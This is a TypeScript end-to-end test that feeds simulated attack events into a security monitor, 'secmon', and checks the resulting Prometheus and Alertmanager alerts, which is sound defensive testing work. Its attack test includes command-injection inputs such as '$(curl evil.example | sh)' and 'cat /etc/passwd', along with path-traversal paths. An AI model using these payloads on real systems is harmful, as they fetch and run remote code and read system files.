// End to end, with real programs on loopback: the built secmon service, Prometheus and
// Alertmanager (Debian's binaries) and a webhook receiver in this test. Prometheus and Alertmanager
// run a configuration derived from the shipped one (same rules, same routes and receivers; shorter
// intervals and a 20 s window so the test takes seconds, not minutes).
//
// It proves: an idle secmon fires nothing; an attack sent through the event API reaches the webhook
// through Alertmanager with the labels and annotations the rules define; credential stuffing followed
// by a successful login pages (critical) and is resolved when secmon resolves it; every dashboard
// query parses and returns data from the live Prometheus; a resolved notification follows; and
// failed logins appended to a log file secmon follows (a live source) raise the alert again.
// secmon itself runs with windows as short as the rules' (20 s), a keep-firing time of 2 s and a
// quiet period of 5 s, so that its attacks also end within seconds.
import { existsSync } from 'node:fs';
import { appendFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { ALERT_GROUPS, renderAlerts, SECMON_JOB } from '../../observability/alerts.js';
import { prometheusContext, renderPrometheusRules } from '../../observability/render-prometheus.js';
import {
  freePort,
  isUp,
  type RunningProcess,
  requireBinaries,
  startProcess,
  waitFor,
} from '../support/processes.js';
import { dashboardTargets, expandGrafanaVariables } from './stack-support.js';

const root = resolve(import.meta.dirname, '../..');
const cli = join(root, 'dist/service/cli.js');
const bins = requireBinaries(
  { prometheus: ['prometheus'], alertmanager: ['prometheus-alertmanager', 'alertmanager'] },
  'apt-get install prometheus prometheus-alertmanager (Debian packages)',
);

/** The look-back window of the rules in this test (the shipped rules use 5m). */
const WINDOW = '20s';
const TOKEN = 'e2e-ingest-token';
const context = prometheusContext({ window: WINDOW });
const rules = renderAlerts(context);
const rule = (name: string) => rules.find((candidate) => candidate.name === name)!;
const attackAlerts = ALERT_GROUPS.find((group) => group.category === 'attack')!.alerts.map(
  (alert) => alert.name,
);
/** What the credential-stuffing test causes; the first attack causes every other attack alert. */
const TAKEOVER_ALERTS = ['SecmonCredentialStuffing', 'SecmonAccountCompromiseSuspected'];
const firstAttackAlerts = attackAlerts.filter((name) => !TAKEOVER_ALERTS.includes(name));
const MINUTE_MS = 60_000;

interface WebhookAlert {
  status: 'firing' | 'resolved';
  labels: Record<string, string>;
  annotations: Record<string, string>;
}
interface Notification {
  path: string;
  receivedAt: number;
  body: { status: string; receiver: string; alerts: WebhookAlert[] };
}

interface PrometheusConfig {
  global: Record<string, string>;
  rule_files: string[];
  alerting: { alertmanagers: Array<{ static_configs: Array<{ targets: string[] }> }> };
  scrape_configs: Array<{ job_name: string; static_configs: Array<{ targets: string[] }> }>;
}
interface AlertmanagerRoute {
  receiver: string;
  group_wait?: string;
  group_interval?: string;
  repeat_interval?: string;
  routes?: AlertmanagerRoute[];
}
interface AlertmanagerConfig {
  route: AlertmanagerRoute;
  receivers: Array<{ name: string; webhook_configs: Array<{ url: string; send_resolved: boolean }> }>;
}

/** The shipped prometheus.yml, pointed at this test's processes, scraping and evaluating every second. */
async function derivePrometheusConfig(secmon: string, alertmanager: string): Promise<string> {
  const config = parse(await readFile(join(root, 'prometheus/prometheus.yml'), 'utf8')) as PrometheusConfig;
  config.global = { ...config.global, scrape_interval: '1s', evaluation_interval: '1s' };
  config.alerting.alertmanagers = [{ static_configs: [{ targets: [alertmanager] }] }];
  const job = config.scrape_configs.find((scrape) => scrape.job_name === SECMON_JOB);
  if (!job) throw new Error('prometheus/prometheus.yml has no secmon job');
  job.static_configs = [{ targets: [secmon] }];
  config.scrape_configs = [job];
  return stringify(config);
}

/** The shipped alertmanager.yml with the webhooks pointed at this test and waits of a second. */
async function deriveAlertmanagerConfig(webhook: string): Promise<string> {
  const config = parse(
    await readFile(join(root, 'prometheus/alertmanager.yml'), 'utf8'),
  ) as AlertmanagerConfig;
  const shorten = (route: AlertmanagerRoute) => {
    if (route.group_wait) route.group_wait = '1s';
    if (route.group_interval) route.group_interval = '1s';
    for (const child of route.routes ?? []) shorten(child);
  };
  shorten(config.route);
  for (const receiver of config.receivers) {
    for (const hook of receiver.webhook_configs) hook.url = `${webhook}/${receiver.name}`;
  }
  return stringify(config);
}

describe.skipIf(!bins)('secmon, Prometheus and Alertmanager, live', () => {
  const notifications: Notification[] = [];
  const running: RunningProcess[] = [];
  let webhook: Server | undefined;
  let dir = '';
  let secmonUrl = '';
  let secmonTarget = '';
  let prometheusUrl = '';
  let alertmanagerUrl = '';
  let attackSentAt = 0;
  let firstFailureAt = 0;
  let sourceLog = '';

  const output = () => running.map((process) => process.output()).join('\n');

  async function promQuery(
    query: string,
  ): Promise<Array<{ metric: Record<string, string>; value: [number, string] }>> {
    const response = await fetch(`${prometheusUrl}/api/v1/query?${new URLSearchParams({ query })}`);
    const body = (await response.json()) as {
      status: string;
      error?: string;
      data?: {
        resultType: string;
        result: Array<{ metric: Record<string, string>; value: [number, string] }>;
      };
    };
    if (body.status !== 'success') throw new Error(`query ${query} failed: ${body.error}`);
    if (body.data?.resultType === 'scalar') return [{ metric: {}, value: body.data.result as never }];
    return body.data!.result;
  }

  /** Sends events through the event API; resolves with the status. */
  async function post(events: object[]): Promise<number> {
    const response = await fetch(`${secmonUrl}/v1/events`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ events }),
    });
    await response.arrayBuffer();
    return response.status;
  }

  /** The first notification (in arrival order) carrying `alertname` in `status`. */
  function notified(alertname: string, status: 'firing' | 'resolved') {
    for (const notification of notifications) {
      const alert = notification.body.alerts.find(
        (candidate) => candidate.labels.alertname === alertname && candidate.status === status,
      );
      if (alert) return { notification, alert };
    }
    return undefined;
  }

  /**
   * The description template was expanded as defined: a whole count where the count goes, and the
   * test's window in the rules that look back over one.
   */
  function expectDescription(name: string, description: string) {
    const expected = rule(name);
    if (!expected.annotations.description.includes(context.count)) {
      expect(description).toBe(expected.annotations.description);
      return;
    }
    const [before = '', after = ''] = expected.annotations.description.split(context.count);
    const value = description.slice(before.length, description.length - after.length);
    expect(`${before}${value}${after}`).toBe(description);
    // A whole count of events, as extrapolating increase() never gives by itself.
    expect(value).toMatch(/^[1-9]\d*$/);
    if (expected.query.includes('increase(')) expect(description).toContain(`last ${WINDOW}`);
  }

  beforeAll(async () => {
    if (!existsSync(cli)) throw new Error('dist/ is missing: run `npm test`, which builds first');
    dir = await mkdtemp(join(tmpdir(), 'secmon-e2e-'));

    webhook = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        notifications.push({
          path: request.url ?? '',
          receivedAt: Date.now(),
          body: JSON.parse(Buffer.concat(chunks).toString('utf8')),
        });
        response.writeHead(200).end();
      });
    });
    await new Promise<void>((done) => webhook!.listen(0, '127.0.0.1', done));
    const webhookAddress = webhook.address();
    if (!webhookAddress || typeof webhookAddress === 'string') throw new Error('webhook has no port');

    const [secmonPort, prometheusPort, alertmanagerPort] = [
      await freePort(),
      await freePort(),
      await freePort(),
    ];
    secmonTarget = `127.0.0.1:${secmonPort}`;
    secmonUrl = `http://${secmonTarget}`;
    prometheusUrl = `http://127.0.0.1:${prometheusPort}`;
    alertmanagerUrl = `http://127.0.0.1:${alertmanagerPort}`;

    // A log file secmon follows (json lines: one event-API event per line).
    sourceLog = join(dir, 'auth.log');
    await writeFile(sourceLog, '');
    // No OTLP export in this test: secmon's own environment decides nothing here.
    const env = Object.fromEntries(Object.entries(process.env).filter(([key]) => !key.startsWith('OTEL_')));
    running.push(
      startProcess(process.execPath, [cli, 'serve'], {
        name: 'secmon',
        env: {
          ...env,
          SECMON_HOST: '127.0.0.1',
          SECMON_PORT: String(secmonPort),
          SECMON_INGEST_TOKENS: TOKEN,
          SECMON_LOG_LEVEL: 'warn',
          SECMON_BRUTE_FORCE_WINDOW_MS: '20000',
          SECMON_KEEP_FIRING_FOR_MS: '2000',
          SECMON_QUIET_PERIOD_MS: '5000',
          SECMON_SOURCES: `auth=json:${sourceLog}`,
          SECMON_SOURCE_POLL_MS: '100',
        },
      }),
    );

    await mkdir(join(dir, 'alertmanager-data'));
    await writeFile(
      join(dir, 'alertmanager.yml'),
      await deriveAlertmanagerConfig(`http://127.0.0.1:${webhookAddress.port}`),
    );
    running.push(
      startProcess(
        bins!.alertmanager,
        [
          `--config.file=${join(dir, 'alertmanager.yml')}`,
          `--storage.path=${join(dir, 'alertmanager-data')}`,
          `--web.listen-address=127.0.0.1:${alertmanagerPort}`,
          '--cluster.listen-address=',
        ],
        { name: 'alertmanager' },
      ),
    );

    // prometheus.yml loads rules/*.yml relative to itself: the same layout, rules rendered with the test window.
    await mkdir(join(dir, 'rules'));
    await writeFile(join(dir, 'rules', 'secmon.rules.yml'), renderPrometheusRules({ window: WINDOW }));
    await writeFile(
      join(dir, 'prometheus.yml'),
      await derivePrometheusConfig(secmonTarget, `127.0.0.1:${alertmanagerPort}`),
    );
    running.push(
      startProcess(
        bins!.prometheus,
        [
          `--config.file=${join(dir, 'prometheus.yml')}`,
          `--storage.tsdb.path=${join(dir, 'prometheus-data')}`,
          `--web.listen-address=127.0.0.1:${prometheusPort}`,
        ],
        { name: 'prometheus' },
      ),
    );

    try {
      await waitFor('secmon to be ready', () => isUp(`${secmonUrl}/readyz`), { timeoutMs: 20_000 });
      await waitFor('Alertmanager to be ready', () => isUp(`${alertmanagerUrl}/-/ready`), {
        timeoutMs: 20_000,
      });
      await waitFor('Prometheus to be ready', () => isUp(`${prometheusUrl}/-/ready`), { timeoutMs: 30_000 });
    } catch (error) {
      throw new Error(`${(error as Error).message}\n${output()}`);
    }
    // The log gets a line that is not evidence (a blank one): the source has read something.
    await appendFile(sourceLog, '\n');
    // Ordinary traffic: one mistyped password. It raises nothing, and starts the failed-login surge
    // detector's history (it needs a whole minute of it before it may fire).
    expect(await post([{ type: 'failed_auth', ip: '192.0.2.200', userId: 'typo' }])).toBe(202);
    firstFailureAt = Date.now();
  }, 90_000);

  afterAll(async () => {
    await Promise.all(running.map((process) => process.stop()));
    await new Promise((done) => (webhook ? webhook.close(done) : done(undefined)));
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('an idle secmon fires nothing', async () => {
    await waitFor(
      'Prometheus to scrape secmon',
      async () => (await promQuery(`up{job="secmon", instance="${secmonTarget}"} == 1`)).length === 1,
      { timeoutMs: 20_000, intervalMs: 250 },
    );
    const scrapedAt = Date.now() / 1000;
    // Let every rule group evaluate for several seconds over real, idle data.
    await waitFor(
      'every rule group to evaluate 5 s after the first scrape',
      async () => {
        const response = await fetch(`${prometheusUrl}/api/v1/rules`);
        const body = (await response.json()) as { data: { groups: Array<{ lastEvaluation: string }> } };
        const groups = body.data.groups;
        return (
          groups.length === ALERT_GROUPS.length &&
          groups.every((group) => Date.parse(group.lastEvaluation) / 1000 > scrapedAt + 5)
        );
      },
      { timeoutMs: 20_000, intervalMs: 250 },
    );
    const alerts = (await (await fetch(`${prometheusUrl}/api/v1/alerts`)).json()) as {
      data: { alerts: Array<{ state: string; labels: Record<string, string> }> };
    };
    // Firing is what pages. (A pending SecmonDown after one slow scrape on a loaded machine would be
    // the rule working as designed: it needs 2 minutes of failed scrapes to fire.)
    const firing = alerts.data.alerts.filter((alert) => alert.state === 'firing');
    expect(firing, 'alerts firing on an idle secmon').toEqual([]);
    const pendingAttacks = alerts.data.alerts.filter((alert) => alert.labels.category === 'attack');
    expect(pendingAttacks, 'attack alerts on an idle secmon').toEqual([]);
    expect(await (await fetch(`${alertmanagerUrl}/api/v2/alerts`)).json()).toEqual([]);
    expect(notifications).toEqual([]);
  }, 60_000);

  it('an attack through the event API reaches the webhook through Alertmanager, labelled and annotated', async () => {
    const attacker = '203.0.113.7';
    // The surge detector compares with what it learned: it needs the minute of the first failed
    // login to be over (at most a minute from the start of the file; usually the idle test took it).
    const learned = (Math.floor(firstFailureAt / MINUTE_MS) + 1) * MINUTE_MS;
    if (Date.now() < learned) await new Promise((done) => setTimeout(done, learned - Date.now() + 50));
    const events = [
      // 12 failed logins from one address: over the default threshold of 10, one brute_force alert.
      ...Array.from({ length: 12 }, () => ({ type: 'failed_auth', ip: attacker, userId: 'admin' })),
      { type: 'command_injection', ip: attacker, input: 'name=x; cat /etc/passwd' },
      { type: 'command_injection', ip: attacker, input: '$(curl evil.example | sh)' },
      { type: 'privileged_container', userId: 'mallory', ip: attacker },
      { type: 'suspicious_container', userId: 'mallory', reasons: ['hostPath /var/run/docker.sock'] },
      ...Array.from({ length: 12 }, (_, i) => ({
        type: 'path_traversal',
        ip: attacker,
        path: `/files/${'../'.repeat(i + 1)}etc/passwd`,
      })),
      { type: 'rate_limit_exceeded', ip: attacker },
      // One account from 20 addresses in 20 networks, one try each: each address stays under every
      // per-address threshold, the account does not (account_brute_force).
      ...Array.from({ length: 20 }, (_, i) => ({ type: 'failed_auth', ip: `198.18.${i}.1`, userId: 'cfo' })),
      // 30 addresses of one /24, one failed login each (network_brute_force). With the rest, 62 failed
      // logins within the 20 s window: far above the one a minute secmon learned (failed_login_surge).
      ...Array.from({ length: 30 }, (_, i) => ({
        type: 'failed_auth',
        ip: `198.19.5.${i + 1}`,
        userId: `staff${i}`,
      })),
    ];
    const response = await fetch(`${secmonUrl}/v1/events`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ events }),
    });
    attackSentAt = Date.now();
    expect(response.status).toBe(202);
    expect(await response.json()).toEqual({ accepted: events.length });

    try {
      await waitFor(
        'every attack alert to reach the webhook',
        () => firstAttackAlerts.every((name) => notified(name, 'firing')),
        { timeoutMs: 60_000, intervalMs: 100 },
      );
    } catch (error) {
      throw new Error(`${(error as Error).message}\nreceived: ${JSON.stringify(notifications)}\n${output()}`);
    }

    for (const name of firstAttackAlerts) {
      const { notification, alert } = notified(name, 'firing')!;
      const expected = rule(name);
      const receiver = expected.labels.severity === 'critical' ? 'page' : 'notify';
      console.log(
        `attack -> webhook latency for ${name}: ${notification.receivedAt - attackSentAt} ms ` +
          `(scrape and evaluation every 1 s, Alertmanager group_wait 1 s)`,
      );
      // Routing: critical pages, everything else notifies.
      expect(notification.path).toBe(`/${receiver}`);
      expect(notification.body.receiver).toBe(receiver);
      expect(alert.labels).toEqual({
        alertname: name,
        ...expected.labels,
        job: SECMON_JOB,
        instance: secmonTarget,
      });
      expect(alert.annotations.runbook_url).toBe(expected.annotations.runbook_url);
      expect(alert.annotations.summary).toBe(
        expected.annotations.summary.replace('{{ $labels.instance }}', secmonTarget),
      );
      expectDescription(name, alert.annotations.description ?? '');
    }

    // Only the attacks fired: no health alert on a healthy secmon under attack.
    const names = new Set(
      notifications.flatMap((notification) =>
        notification.body.alerts.map((alert) => alert.labels.alertname),
      ),
    );
    expect([...names].sort()).toEqual([...firstAttackAlerts].sort());
  }, 150_000);

  it('credential stuffing followed by a successful login pages as a suspected compromise, then resolves', async () => {
    const stuffer = '192.0.2.150';
    // A leaked list: 12 accounts, one try each, from one address; then one of the logins works.
    const stuffing = Array.from({ length: 12 }, (_, i) => ({
      type: 'failed_auth',
      ip: stuffer,
      userId: `customer${i}@example.com`,
    }));
    expect(await post(stuffing)).toBe(202);
    expect(await post([{ type: 'successful_auth', ip: stuffer, userId: 'customer7@example.com' }])).toBe(202);
    const sentAt = Date.now();
    try {
      await waitFor(
        'the stuffing and the compromise to reach the webhook',
        () => TAKEOVER_ALERTS.every((name) => notified(name, 'firing')),
        { timeoutMs: 60_000, intervalMs: 100 },
      );
    } catch (error) {
      throw new Error(`${(error as Error).message}\nreceived: ${JSON.stringify(notifications)}\n${output()}`);
    }
    for (const name of TAKEOVER_ALERTS) {
      const { notification, alert } = notified(name, 'firing')!;
      const expected = rule(name);
      console.log(`stuffing + login -> webhook latency for ${name}: ${notification.receivedAt - sentAt} ms`);
      expect(alert.labels).toEqual({
        alertname: name,
        ...expected.labels,
        job: SECMON_JOB,
        instance: secmonTarget,
      });
      expectDescription(name, alert.annotations.description ?? '');
    }
    // The compromise is critical: it pages.
    const compromise = notified('SecmonAccountCompromiseSuspected', 'firing')!;
    expect(compromise.alert.labels.severity).toBe('critical');
    expect(compromise.notification.path).toBe('/page');
    expect(compromise.alert.annotations.description).toMatch(/^1 account\(s\) logged in successfully/);
    expect(notified('SecmonCredentialStuffing', 'firing')!.notification.path).toBe('/notify');

    // secmon resolves the compromise after its quiet period (5 s here) without another such login;
    // the rule follows, and Alertmanager sends the resolution.
    const resolved = await waitFor(
      'the compromise to be resolved at the webhook',
      () => notified('SecmonAccountCompromiseSuspected', 'resolved'),
      { timeoutMs: 60_000, intervalMs: 200 },
    );
    expect(resolved.notification.path).toBe('/page');
    expect(resolved.notification.body.status).toBe('resolved');
    const took = resolved.notification.receivedAt - sentAt;
    console.log(`successful login -> resolved compromise at the webhook: ${took} ms (quiet period 5 s)`);
    expect(took).toBeGreaterThanOrEqual(5000);
  }, 150_000);

  it('every dashboard query parses and returns data from the live Prometheus', async () => {
    const dashboard = JSON.parse(await readFile(join(root, 'grafana/dashboards/secmon.json'), 'utf8'));
    const targets = dashboardTargets(dashboard);
    expect(targets.length).toBeGreaterThan(10);
    const empty: string[] = [];
    for (const target of targets) {
      const result = await promQuery(expandGrafanaVariables(target.expr));
      if (result.length === 0) empty.push(`${target.panel} ${target.refId}: ${target.expr}`);
    }
    expect(empty, 'dashboard queries without data').toEqual([]);
  }, 60_000);

  it("the rules' metrics are the ones secmon exports", async () => {
    // Every rule query (bar the one that watches for the series being absent) finds its series.
    for (const alert of rules) {
      if (alert.query.startsWith('absent(')) continue;
      expect((await promQuery(alert.query)).length, `${alert.name}: ${alert.query}`).toBeGreaterThan(0);
    }
  }, 30_000);

  it('a resolved notification follows once the attack stops', async () => {
    for (const name of ['SecmonBruteForceDetected', 'SecmonCommandInjectionAttempt']) {
      const resolved = await waitFor(
        `${name} to be resolved at the webhook`,
        () => notified(name, 'resolved'),
        {
          timeoutMs: 60_000,
          intervalMs: 200,
        },
      );
      expect(resolved.notification.body.status).toBe('resolved');
      console.log(
        `attack -> resolved notification for ${name}: ${resolved.notification.receivedAt - attackSentAt} ms (window ${WINDOW})`,
      );
    }
  }, 130_000);

  it('failed logins appended to a followed log file raise the alert that reaches the webhook', async () => {
    // The event API's brute force was resolved (the test before); the log brings a new one.
    const appendedAt = Date.now();
    const line = JSON.stringify({ type: 'failed_auth', ip: '203.0.113.99', userId: 'root' });
    await appendFile(sourceLog, `${line}\n`.repeat(12));
    const fired = await waitFor(
      'a brute force from the log at the webhook',
      () =>
        notifications
          .filter((notification) => notification.receivedAt > appendedAt)
          .flatMap((notification) => notification.body.alerts.map((alert) => ({ notification, alert })))
          .find(
            ({ alert }) => alert.labels.alertname === 'SecmonBruteForceDetected' && alert.status === 'firing',
          ),
      { timeoutMs: 60_000, intervalMs: 100 },
    ).catch((error: Error) => {
      throw new Error(`${error.message}\nreceived: ${JSON.stringify(notifications)}\n${output()}`);
    });
    console.log(
      `log line -> webhook latency: ${fired.notification.receivedAt - appendedAt} ms (poll 100 ms)`,
    );
    expect(fired.notification.path).toBe('/notify');
    expect(fired.alert.labels).toMatchObject({ job: SECMON_JOB, instance: secmonTarget, severity: 'high' });
    // Prometheus saw the source's lines: 12 matched, the blank one ignored, the file readable.
    const matched = await promQuery('secmon_source_lines_total{source="auth", outcome="matched"}');
    expect(matched.map((sample) => sample.value[1])).toEqual(['12']);
    const readable = await promQuery('secmon_source_up{source="auth"}');
    expect(readable.map((sample) => sample.value[1])).toEqual(['1']);
  }, 90_000);
});
